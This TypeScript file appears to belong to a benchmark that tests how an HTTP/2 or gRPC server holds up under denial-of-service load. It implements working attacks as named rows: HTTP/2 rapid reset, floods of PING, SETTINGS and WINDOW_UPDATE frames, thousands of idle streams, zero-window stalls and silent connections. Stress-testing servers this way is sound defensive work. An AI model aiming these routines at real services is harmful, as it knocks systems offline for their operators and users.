import type { Socket } from 'node:net';
import { callHead, connectRaw, frame, frameType } from './frames.ts';

/** Attacks a port until it is told to stop; every socket that it opened goes into `sockets`. */
export type Attack = (target: {
  readonly port: number;
  readonly sockets: Set<Socket>;
  readonly signal: AbortSignal;
}) => Promise<void>;

/** What attackers do, by the name of their row. */
export const attacks: Readonly<Record<string, Attack>> = {
  'nobody attacks': async () => {},
  'rapid reset': onNewConnections((socket) => {
    const head = callHead('/bench.Bench/Call');
    const frames = Array.from({ length: 500 }, (_, at) => [
      frame(frameType.headers, { flags: 5, stream: 1 + 2 * at, payload: head }),
      frame(frameType.reset, { stream: 1 + 2 * at, payload: Buffer.from([0, 0, 0, 8]) }),
    ]);
    socket.write(Buffer.concat(frames.flat()));
  }),
  'flood of PING': flood(frame(frameType.ping, { payload: Buffer.alloc(8) })),
  'flood of SETTINGS': flood(frame(frameType.settings)),
  'flood of WINDOW_UPDATE': flood(
    frame(frameType.windowUpdate, { payload: Buffer.from([0, 0, 0, 1]) }),
  ),
  '10,000 idle streams': async ({ port, sockets }) => {
    const payload = callHead('/bench.Bench/Call');
    for (let at = 0; at < 10; at++) {
      const socket = await connectRaw(port);
      sockets.add(socket);
      const heads = Array.from({ length: 1_000 }, (_, stream) =>
        frame(frameType.headers, { flags: 4, stream: 1 + 2 * stream, payload }),
      );
      socket.write(Buffer.concat(heads));
    }
  },
  '100 answers of 3 MiB behind a zero window': async ({ port, sockets }) => {
    const payload = callHead('/bench.Bench/Large');
    const socket = await connectRaw(port, { settings: Buffer.from([0, 4, 0, 0, 0, 0]) });
    sockets.add(socket);
    for (let stream = 1; stream < 200; stream += 2) {
      socket.write(frame(frameType.headers, { flags: 5, stream, payload }));
    }
  },
  '1,000 silent connections': async ({ port, sockets }) => {
    for (let at = 0; at < 1_000; at++) sockets.add(await connectRaw(port, { greet: false }));
  },
};

/** Writes a frame again and again, on eight connections that are opened again when they are closed. */
function flood(one: Buffer): Attack {
  const piece = Buffer.concat(Array.from({ length: Math.ceil(65_536 / one.length) }, () => one));
  return onNewConnections((socket) => {
    const write = () => {
      while (!socket.destroyed && socket.write(piece));
    };
    socket.on('drain', write);
    write();
  });
}

/** Eight connections, each followed by another one when it is closed. */
function onNewConnections(begin: (socket: Socket) => void): Attack {
  return async ({ port, sockets, signal }) => {
    const next = async () => {
      while (!signal.aborted) {
        const socket = await connectRaw(port);
        sockets.add(socket);
        begin(socket);
        if (!socket.destroyed) await new Promise((resolve) => socket.once('close', resolve));
        sockets.delete(socket);
      }
    };
    await Promise.all(Array.from({ length: 8 }, () => next().catch(() => {})));
  };
}
